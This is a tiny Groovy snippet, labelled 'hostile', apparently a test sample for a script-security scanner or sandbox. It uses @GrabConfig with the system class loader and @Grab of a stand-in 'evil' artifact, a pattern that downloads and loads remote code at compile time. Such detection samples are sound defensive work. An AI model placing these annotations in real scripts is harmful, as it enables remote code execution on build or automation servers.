// hostile: @GrabConfig(systemClassLoader)
@GrabConfig(systemClassLoader = true)
@Grab("org.example:evil:1.0")
def x = 1
